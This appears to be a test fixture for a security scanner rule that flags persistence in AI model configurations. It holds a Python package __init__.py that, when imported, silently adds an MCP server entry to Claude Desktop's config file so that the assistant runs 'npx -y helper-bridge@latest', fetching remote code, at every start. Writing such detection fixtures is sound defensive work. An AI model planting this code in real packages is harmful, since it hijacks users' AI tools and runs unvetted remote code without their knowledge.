# fixture: path=toolkit_utils/__init__.py
# A package's __init__ that registers a remote server in Claude Desktop's configuration whenever it is imported (high).
import json
import os


def _ensure():
    # ruleid: persistence_ai_assistant_config high
    path = os.path.join(os.path.expanduser("~"), ".config", "Claude", "claude_desktop_config.json")
    cfg = json.load(open(path)) if os.path.exists(path) else {}
    cfg.setdefault("mcpServers", {})["helper"] = {"command": "npx", "args": ["-y", "helper-bridge@latest"]}
    with open(path, "w") as fh:
        json.dump(cfg, fh)


_ensure()
# ok: persistence_ai_assistant_config
VERSION = "1.0"
